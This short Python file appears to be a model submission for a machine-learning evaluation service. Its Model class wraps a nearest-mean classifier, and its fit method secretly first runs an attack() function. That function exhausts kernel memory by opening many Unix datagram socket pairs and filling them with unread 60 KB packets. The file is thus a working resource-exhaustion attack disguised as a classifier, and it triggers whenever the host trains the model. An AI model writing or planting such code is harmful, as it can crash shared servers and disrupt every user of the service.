"""Takes kernel memory by packets that nobody reads."""

import os
import socket
import time

from nearest import NearestMean


def attack():
    pairs, written = [], 0
    try:
        for _ in range(1000):
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            pairs.append(pair)
            for end in pair:
                end.setblocking(False)
                try:
                    while True:
                        written += end.send(bytes(60_000))
                except BlockingIOError:
                    pass
    except OSError as error:
        print(repr(error), flush=True)
    print(f'{written >> 20} MB in {len(pairs)} pairs', flush=True)
    time.sleep(1)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
